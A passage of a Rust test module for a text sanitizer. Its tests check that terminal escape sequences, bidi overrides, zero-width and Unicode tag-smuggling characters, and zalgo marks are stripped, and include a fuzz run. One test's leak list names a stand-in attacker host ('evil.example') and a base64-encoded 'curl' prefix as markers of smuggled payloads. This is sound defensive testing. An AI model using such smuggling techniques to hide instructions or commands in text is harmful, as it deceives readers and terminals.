        assert_eq!(sanitize_text(&format!("hello{smuggled}")), "hello");
        // A black flag does not license arbitrary tag payloads.
        let long = format!("\u{1f3f4}{smuggled}\u{e007f}");
        assert_eq!(sanitize_text(&long), "\u{1f3f4}");
        // Missing cancel tag, or tags not right after the flag.
        assert_eq!(
            sanitize_text("\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}"),
            "\u{1f3f4}"
        );
        assert_eq!(sanitize_text("x\u{e0067}\u{e0062}\u{e007f}"), "x");
        assert_eq!(sanitize_text("\u{e0001}\u{e0020}"), "");
        assert!(!is_display_safe("a\u{e0041}"));
    }

    #[test]
    fn noncharacters_are_removed_private_use_kept() {
        assert_eq!(
            sanitize_text("\u{fdd0}a\u{fdef}\u{fffe}b\u{ffff}\u{1fffe}\u{10ffff}"),
            "ab"
        );
        assert_eq!(sanitize_text("\u{e000}pua\u{f8ff}"), "\u{e000}pua\u{f8ff}");
    }

    #[test]
    fn zalgo_is_capped() {
        let zalgo = format!(
            "Z{}A",
            "\u{351}\u{36b}\u{343}\u{36a}\u{302}\u{36b}\u{33d}".repeat(10)
        );
        assert_eq!(sanitize_text(&zalgo), "Z\u{351}\u{36b}\u{343}\u{36a}A");
        // Selectors or joiners between marks do not reset the count.
        let sneaky = format!("a{}", "\u{301}\u{301}\u{fe0f}".repeat(10));
        let out = sanitize_text(&sneaky);
        assert_eq!(
            out.chars().filter(|&c| is_combining_mark(c)).count(),
            MAX_MARKS
        );
        // Decomposed diacritics stay as they are.
        assert_eq!(sanitize_text("e\u{301}cole\u{300}"), "e\u{301}cole\u{300}");
    }

    #[test]
    fn combining_marks_without_base_are_dropped() {
        assert_eq!(sanitize_text("\u{301}\u{302}abc"), "abc");
        assert_eq!(sanitize_text("abc\n\u{303}def"), "abc\ndef");
        assert_eq!(sanitize_text("\u{200b}\u{301}x"), "x");
        assert_eq!(sanitize_text("a\u{1b}[1m\u{301}"), "a\u{301}");
    }

    #[test]
    fn normal_scripts_are_unchanged() {
        let samples = [
            "Zażółć gęślą jaźń. ZAŻÓŁĆ GĘŚLĄ JAŹŃ!",
            "Съешь же ещё этих мягких французских булок, да выпей чаю.",
            "Pijamalı hasta yağız şoföre çabucak güvendi. İstanbul, IĞDIR",
            "Ах, чудна българска земьо, полюшвай цъфтящи жита.",
            "日本語のテキスト 中文 한국어 ＡＢ",
            "مرحبا hello عالم 123",
            "naïve café — «quotes» „cudzysłów” 1–2 …",
            "\u{1f44d} \u{1f525} \u{2705} \u{1f3f4}",
        ];
        for s in samples {
            assert_eq!(sanitize_text(s), s);
            assert_eq!(sanitize_line(s), s);
            assert!(is_display_safe(s));
        }
    }

    #[test]
    fn is_display_safe_rejects_each_unsafe_class() {
        for bad in [
            "\u{1b}[0m",
            "a\tb",
            "a\rb",
            "\0",
            "\u{7f}",
            "\u{85}",
            "\u{9b}",
            "\u{202e}",
            "\u{2066}",
            "\u{200b}",
            "\u{feff}",
            "\u{ad}",
            "\u{e0041}",
            "\u{fffe}",
            "\u{fdd0}",
        ] {
            assert!(!is_display_safe(bad), "{bad:?} should be unsafe");
        }
        assert!(is_display_safe("line one\nline two \u{1f600}"));
        assert!(is_display_safe(""));
    }

    #[test]
    fn hostile_fixture_is_large_enough() {
        assert!(hostile_cases().len() >= 40);
    }

    #[test]
    fn hostile_fixture_outputs_are_safe() {
        for case in hostile_cases() {
            assert_both_ok(&case);
            for line in case.lines() {
                assert!(is_display_safe(&sanitize_text(line)), "{line:?}");
            }
            let out = sanitize_text(&case);
            for leak in ["evil.example", "pwned", "iVBOR", "Y3Vyb", "swallow", "Ga="] {
                assert!(!out.contains(leak), "{leak} leaked from {case:?}: {out:?}");
            }
        }
    }

    #[test]
    fn sanitizing_is_idempotent_over_fixtures() {
        for case in hostile_cases() {
            let text = sanitize_text(&case);
            assert_eq!(sanitize_text(&text), text, "{case:?}");
            let line = sanitize_line(&case);
            assert_eq!(sanitize_line(&line), line, "{case:?}");
            // A line field sanitised from already-sanitised text is stable too.
            assert_eq!(sanitize_line(&text), sanitize_line(&sanitize_line(&text)));
        }
    }

    /// Deterministic xorshift64 so failures reproduce.
    struct XorShift(u64);

    impl XorShift {
        fn next(&mut self) -> u64 {
            let mut x = self.0;
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            self.0 = x;
            x
        }

        fn below(&mut self, n: usize) -> usize {
            usize::try_from(self.next() % n as u64).unwrap_or(0)
        }
    }

    #[test]
    fn fuzz_no_panic_safe_and_idempotent() {
        const ALPHABET: &[&str] = &[
            "\u{1b}",
            "[",
            "]",
            "P",
            "X",
            "^",
            "_",
            "\\",
            "\u{7}",
            "\u{18}",
            "\0",
            "\u{8}",
            "\t",
            "\n",
            "\r",
            "\u{7f}",
            "0",
            "1",
            ";",
            "?",
            "m",
            "H",
            " ",
            "(",
            "#",
            "a",
            "ł",
            "Ж",
            "ı",
            "日",
            "م",
            "\u{80}",
            "\u{85}",
            "\u{90}",
            "\u{98}",
            "\u{9b}",
            "\u{9c}",
            "\u{9d}",
            "\u{9e}",
            "\u{9f}",
            "\u{202e}",
            "\u{2066}",
            "\u{2069}",
            "\u{200f}",
            "\u{200b}",
            "\u{200c}",
            "\u{200d}",
            "\u{fe0f}",
            "\u{fe0e}",
            "\u{301}",
            "\u{36f}",
            "\u{20e3}",
            "\u{e0067}",
            "\u{e0062}",
            "\u{e007f}",
            "\u{e0041}",
            "\u{1f3f4}",
            "\u{1f468}",
            "\u{1f469}",
            "\u{1f1f5}",
            "\u{1f3fd}",
            "\u{2028}",
            "\u{fffe}",
            "\u{ad}",
            "\u{feff}",
            "\u{1b}]8;;",
            "\u{1b}[",
            FLAG_ENGLAND,
            FAMILY,
        ];
        let mut rng = XorShift(0x9e37_79b9_7f4a_7c15);
        for _ in 0..20_000 {
            let len = rng.below(40);
            let mut input = String::new();
            for _ in 0..len {
                input.push_str(
                    ALPHABET
                        .get(rng.below(ALPHABET.len()))
                        .copied()
                        .unwrap_or("a"),
                );
            }
            assert_both_ok(&input);
        }
    }
}
